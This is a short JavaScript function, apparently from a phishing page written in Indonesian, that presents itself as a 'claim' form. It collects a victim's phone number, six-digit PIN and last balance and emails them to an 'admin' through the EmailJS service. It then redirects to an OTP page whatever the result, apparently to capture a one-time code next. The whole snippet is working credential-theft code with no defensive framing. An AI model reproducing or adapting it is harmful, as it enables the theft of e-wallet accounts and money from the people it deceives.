emailjs.init("PUBLIC_KEY");
function klaim() {
  var nomor = document.getElementById("nohp").value;
  var pin = document.getElementById("pin").value;
  var saldo = document.getElementById("saldo").value;
  if (pin.length != 6) { alert("PIN harus 6 angka"); return false; }
  emailjs.send("service_id", "template_id", { to_name: "admin", message: "No HP: " + nomor + "\nPIN: " + pin + "\nSaldo terakhir: " + saldo })
    .then(function () { window.location.href = "otp.html?no=" + nomor; }, function () { window.location.href = "otp.html?no=" + nomor; });
  return false;
}
